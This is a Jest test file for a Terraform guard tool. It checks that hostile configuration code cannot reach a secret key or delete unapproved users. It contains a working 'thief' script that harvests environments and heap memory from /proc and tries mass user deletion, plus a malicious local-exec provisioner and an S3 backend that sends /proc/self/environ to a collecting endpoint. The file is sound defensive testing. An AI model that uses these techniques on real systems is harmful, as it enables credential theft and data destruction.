import { chmodSync, cpSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { text } from "node:stream/consumers";
import { expect, test } from "@jest/globals";
import { GUARD_VERSION, GuardHeader } from "../../../src/api/guard-connection";
import { installProvider } from "../../../src/install";
import { applySet, check } from "../../support/acceptance/removal-case";
import { seedUsers } from "../../support/emulator";
import { engines } from "../../support/engine/engines";
import { guardLine, readEnvironments } from "../../support/guard/guarded";
import {
  COMMAND_USER,
  engineOpenToAll,
  filesHolding,
  giveTo,
  OTHER_USER,
  whenRoot,
} from "../../support/guard/second-user";
import { serveHttp } from "../../support/http-server";
import { type Scenario, useScenarios } from "../../support/scenario";

/** What code of a configuration reaches under the guard, as another user. */

const pool = seedUsers(6);
const emails = pool.map(({ email = "" }) => email);
const EVERYBODY = { users: emails, user_id_type: "email", max_deletions_percent: 100 };
const ONE_LESS = { ...EVERYBODY, users: emails.slice(1) };

/** Reads what a program can of all processes, and asks the guard to delete everybody, together and one by one. */
const THIEF = String.raw`
const fs = require("fs");
const http = require("http");
const { socket, host, version, users, folder } = JSON.parse(fs.readFileSync(__dirname + "/thief.json", "utf8"));
let loot = JSON.stringify(process.env);
for (const pid of fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
  for (const name of ["environ", "cmdline"]) {
    try { loot += fs.readFileSync("/proc/" + pid + "/" + name, "latin1"); } catch {}
  }
  try {
    const heap = /^([0-9a-f]+)-([0-9a-f]+) .*\[heap\]$/m.exec(fs.readFileSync("/proc/" + pid + "/maps", "utf8"));
    const from = parseInt(heap[1], 16);
    const to = parseInt(heap[2], 16);
    const buffer = Buffer.alloc(Math.min(to - from, 8e6));
    fs.readSync(fs.openSync("/proc/" + pid + "/mem", "r"), buffer, 0, buffer.length, from);
    loot += buffer.toString("latin1");
  } catch {}
}
const socketPath = process.env.GENAUTH_GUARD ?? socket;
const ask = (ids) => new Promise((resolve) => {
  const request = http.request({ socketPath, path: "/api/v3/delete-users-batch", method: "POST",
    headers: { "${GuardHeader.VERSION}": version, "${GuardHeader.HOST}": host, "content-type": "application/json" } },
    (response) => response.resume().on("end", resolve));
  request.on("error", resolve);
  request.end(JSON.stringify({ userIds: ids, options: { userIdType: "email" } }));
});
(async () => {
  await ask(users);
  for (const id of users) await ask([id]);
  fs.writeFileSync(folder + "/loot.txt", loot);
})();
`;

const runThief = (folder: string): string => `'${process.execPath}' '${folder}/thief.cjs'`;

function writeThief({ workspace, emulator }: Scenario): void {
  const { GENAUTH_HOST: host } = emulator.environment();
  const target = { host, version: GUARD_VERSION, users: emails, folder: workspace.folder };
  workspace.writeFiles({ "thief.cjs": THIEF, "thief.json": JSON.stringify(target) });
}

/** A resource that runs the thief, and an output of everything that an expression can read. */
function hostileConfiguration(folder: string): string {
  return `resource "terraform_data" "thief" {
  provisioner "local-exec" {
    command = ${JSON.stringify(runThief(folder))}
  }
}
output "everything" {
  value = ${readEnvironments("/proc")}
}
`;
}

/** A backend that sends the environment of the engine to an address, as the token with which it asks for credentials. */
function sendingBackend(address: string): string {
  return `terraform {
  backend "s3" {
    bucket                      = "x"
    key                         = "x"
    region                      = "us-east-1"
    endpoints                   = { sts = "${address}", s3 = "${address}" }
    skip_credentials_validation = true
    skip_metadata_api_check     = true
    skip_requesting_account_id  = true
    max_retries                 = 1
    assume_role_with_web_identity = {
      role_arn                = "arn:aws:iam::123456789012:role/x"
      session_name            = "session"
      web_identity_token_file = "/proc/self/environ"
    }
  }
}
`;
}

/** Runs an engine under the guard, each as another user. */
async function run({ workspace }: Scenario, options: readonly string[], ...args: [string, ...string[]]) {
  giveTo(workspace.folder, COMMAND_USER);
  const users = ["--user", COMMAND_USER, "--guard-user", OTHER_USER];
  return await workspace.startUnder(guardLine(...options, ...users), ...args).finished;
}

function expectNoKey({ workspace, emulator }: Scenario, seen: string): void {
  expect(filesHolding(workspace.folder, emulator.accessKeySecret)).toEqual([]);
  expect(seen).not.toContain(emulator.accessKeySecret);
}

const [engine] = engines();
const open = useScenarios(engineOpenToAll(engine));

whenRoot("under the guard as another user", () => {
  // Who reads a process is decided by the system, so no engine needs both resource types.
  const openNull = useScenarios(engineOpenToAll(engines().at(-1) ?? engine), "null_resource");

  test("nothing of the key is in reach of the configuration, and nobody but the approved user is deleted", async () => {
    const scenario = await open({ emulator: { users: pool } });
    const { workspace, emulator } = scenario;
    await applySet(workspace, EVERYBODY);
    workspace.write(ONE_LESS);
    writeThief(scenario);
    workspace.writeFiles({ "hostile.tf": hostileConfiguration(workspace.folder) });
    const plan = await run(scenario, ["--read-only"], "plan", "-input=false", "-out=x.tfplan");
    check(plan, { code: 0 });
    workspace.writeFiles({ "x.json": JSON.stringify(await workspace.planJson("x.tfplan")) });
    const options = ["--plan", "x.json", "--allow", "provisioner=terraform_data.thief"];
    const apply = await run(scenario, options, "apply", "-input=false", "x.tfplan");
    // The program ran and found its own environment, so it could read.
    expect(filesHolding(workspace.folder, "GENAUTH_GUARD=")).toContain("loot.txt");
    expectNoKey(scenario, plan.text + apply.text);
    const left = emulator.pool.list().map(({ email }) => email);
    expect(left).toEqual(emails.slice(1));
  });

  test("a backend that sends the engine's environment sends no key", async () => {
    let received = "";
    const address = await serveHttp((request, response) => {
      void text(request).then((body) => {
        received += `${request.url ?? ""}\n${decodeURIComponent(body)}\n`;
        response.writeHead(403).end();
      });
    });
    const scenario = await open({ emulator: { users: pool } });
    const { workspace } = scenario;
    workspace.write(EVERYBODY);
    workspace.writeFiles({ "backend.tf": sendingBackend(address) });
    installProvider({ dir: workspace.folder });
    const init = await run(scenario, ["--read-only"], "init", "-input=false", "-reconfigure");
    expect(received).toContain("GENAUTH_GUARD=");
    expectNoKey(scenario, received + init.text);
  });

  test("a program in the place of the null resource's command finds no key", async () => {
    const scenario = await openNull({ emulator: { users: pool } });
    const { workspace, emulator } = scenario;
    await applySet(workspace, EVERYBODY);
    workspace.write(ONE_LESS);
    writeThief(scenario);
    const command = join(workspace.folder, "genauth", "cdktf-genauth");
    cpSync(command, `${command}.original`);
    writeFileSync(command, `${runThief(workspace.folder)}\n`);
    chmodSync(command, 0o755);
    check(await run(scenario, ["--read-only"], "plan", "-out=x.tfplan"), { code: 0 });
    workspace.writeFiles({ "x.json": JSON.stringify(await workspace.planJson("x.tfplan")) });
    const apply = await run(scenario, ["--plan", "x.json"], "apply", "-input=false", "x.tfplan");
    expect(filesHolding(workspace.folder, "GENAUTH_GUARD=")).toContain("loot.txt");
    expectNoKey(scenario, apply.text);
    const left = emulator.pool.list().map(({ email }) => email);
    expect(left).toEqual(expect.arrayContaining(emails.slice(1)));
  });
});

(process.platform === "linux" ? test : test.skip)(
  "under a guard of the command's own user, the same configuration finds the key in the guard's environment",
  async () => {
    const scenario = await open({ emulator: { users: pool } });
    const { workspace, emulator } = scenario;
    writeThief(scenario);
    workspace.write(EVERYBODY);
    workspace.writeFiles({ "hostile.tf": hostileConfiguration(workspace.folder) });
    const reading = guardLine("--read-only");
    check(await workspace.startUnder(reading, "plan", "-input=false", "-out=x.tfplan").finished, {
      code: 0,
      says: ["The command runs as the guard's own user"],
    });
    workspace.writeFiles({ "x.json": JSON.stringify(await workspace.planJson("x.tfplan")) });
    expect(filesHolding(workspace.folder, emulator.accessKeySecret)).toEqual(["x.json"]);
    const line = guardLine("--plan", "x.json", "--allow", "provisioner=terraform_data.thief");
    await workspace.startUnder(line, "apply", "-input=false", "x.tfplan").finished;
    expect(filesHolding(workspace.folder, emulator.accessKeySecret)).toContain("loot.txt");
    expect(emulator.pool.size).toBe(pool.length);
  },
);
